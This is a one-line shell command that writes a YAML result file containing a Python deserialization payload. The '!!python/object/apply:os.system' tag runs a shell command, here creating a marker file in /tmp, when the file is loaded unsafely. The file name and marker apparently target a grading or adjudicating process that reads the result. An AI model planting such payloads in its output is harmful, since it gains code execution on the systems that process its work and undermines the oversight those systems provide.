printf 'drop_v: !!python/object/apply:os.system ["touch /tmp/adjudge-was-here"]\n' > out/result.yaml
